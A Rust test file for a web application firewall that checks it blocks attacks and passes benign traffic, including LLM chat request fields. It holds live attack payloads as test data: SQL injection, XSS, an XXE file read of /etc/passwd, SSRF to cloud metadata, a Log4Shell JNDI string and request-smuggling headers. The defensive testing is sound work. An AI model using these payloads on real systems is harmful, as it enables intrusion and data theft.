//! API behaviour: scoring, paranoia levels, exclusions, LLM-aware handling, anomalies.

use palisade_waf::{Config, Exclusion, Request, Waf};

fn waf(cfg: Config) -> Waf {
    Waf::new(cfg).expect("valid config")
}

fn get(path: &str) -> Request {
    Request::new("GET", path)
        .header("Host", "example.com")
        .header("User-Agent", "Mozilla/5.0")
        .header("Accept", "*/*")
}

#[test]
fn benign_passes_and_attack_blocks() {
    let w = waf(Config::default());
    let v = w.inspect(&get("/search?q=select+the+best+option+or+1+of+them"));
    assert!(!v.blocked, "{v:?}");
    let v = w.inspect(&get("/search?q=1%27%20or%20%271%27%3D%271"));
    assert!(v.blocked && v.score >= 5, "{v:?}");
    assert!(v
        .matches
        .iter()
        .any(|m| m.category == "sqli" && m.target == "ARGS:q"));
}

#[test]
fn exclusions_apply_per_route_and_target() {
    let cfg = Config {
        exclusions: vec![Exclusion {
            path: "/docs/*".into(),
            targets: vec!["ARGS:snippet".into()],
            categories: vec!["sqli".into()],
            ..Exclusion::default()
        }],
        ..Config::default()
    };
    let w = waf(cfg);
    assert!(
        !w.inspect(&get("/docs/page?snippet=1%20union%20select%20a%20from%20b"))
            .blocked
    );
    assert!(
        w.inspect(&get("/other?snippet=1%20union%20select%20a%20from%20b"))
            .blocked
    );
}

#[test]
fn llm_fields_handed_to_guard() {
    let w = waf(Config::default());
    let body = r#"{"model":"m","messages":[{"role":"user","content":"How do I fix: SELECT * FROM users WHERE id = 1 OR 1=1 -- and <script>alert(1)</script>?"}]}"#;
    let req = Request::new("POST", "/v1/chat/completions")
        .header("Host", "x")
        .header("Content-Type", "application/json")
        .body(body);
    let v = w.inspect(&req);
    assert!(!v.blocked, "{v:?}");
    assert_eq!(
        v.handed_to_guard,
        vec!["JSON:messages[0].content".to_string()]
    );
    // The same payload in a non-prompt field is inspected.
    let body = r#"{"model":"1 OR 1=1 UNION SELECT password FROM users"}"#;
    let req = Request::new("POST", "/v1/chat/completions")
        .header("Host", "x")
        .header("Content-Type", "application/json")
        .body(body);
    assert!(w.inspect(&req).blocked);
    // A route can opt back into full inspection.
    let mut cfg = Config::default();
    cfg.llm.inspect_routes = vec!["/internal/*".into()];
    let w2 = waf(cfg);
    let body = r#"{"prompt":"1' OR '1'='1' --"}"#;
    let req = Request::new("POST", "/internal/x")
        .header("Host", "x")
        .header("Content-Type", "application/json")
        .body(body);
    assert!(w2.inspect(&req).blocked);
}

#[test]
fn paranoia_levels_gate_rules() {
    let r = get("/x?u=https://evil.example/a");
    assert!(!waf(Config::default()).inspect(&r).blocked);
    assert!(
        waf(Config {
            paranoia_level: 2,
            ..Config::default()
        })
        .inspect(&r)
        .blocked
    );
}

#[test]
fn protocol_anomalies() {
    let w = waf(Config::default());
    let r = Request::new("POST", "/")
        .header("Host", "x")
        .header("Content-Length", "5")
        .header("Transfer-Encoding", "chunked")
        .body("hello");
    let v = w.inspect(&r);
    assert!(v.blocked && v.anomalies.iter().any(|a| a.code == "cl_and_te"));
    let r = Request::new("GET", "/")
        .header("Host", "a")
        .header("Host", "b");
    assert!(w.inspect(&r).blocked);
    let r = Request::new("POST", "/")
        .header("Host", "x")
        .header("Content-Type", "multipart/form-data; boundary=\"\"")
        .body("--\r\n");
    assert!(w
        .inspect(&r)
        .anomalies
        .iter()
        .any(|a| a.code.starts_with("multipart")));
    let r = Request::new("BREW", "/").header("Host", "x");
    assert!(w.inspect(&r).blocked);
    let v = w.inspect(&get("/static/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd"));
    assert!(v.blocked && v.anomalies.iter().any(|a| a.code == "overlong_utf8"));
}

#[test]
fn xxe_and_ssrf_and_jndi() {
    let w = waf(Config::default());
    let r = Request::new("POST", "/")
        .header("Host", "x")
        .header("Content-Type", "application/xml")
        .body(r#"<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>"#);
    assert!(w.inspect(&r).blocked);
    assert!(
        w.inspect(&get("/fetch?url=http://169.254.169.254/latest/meta-data/"))
            .blocked
    );
    assert!(w.inspect(&get("/fetch?url=http://0xA9FEA9FE/")).blocked);
    let r = get("/").header("X-Api-Version", "${${lower:j}ndi:ldap://x.example/a}");
    assert!(w.inspect(&r).blocked);
    assert!(w.inspect(&get("/p?name[$ne]=1")).blocked);
}

#[test]
fn verdict_evidence_is_escaped_and_short() {
    let w = waf(Config::default());
    let long = format!("/x?q=%3Cscript%3E{}%0a", "a".repeat(500));
    let v = w.inspect(&get(&long));
    assert!(v
        .matches
        .iter()
        .all(|m| m.evidence.chars().count() <= 81 && !m.evidence.contains('\n')));
}
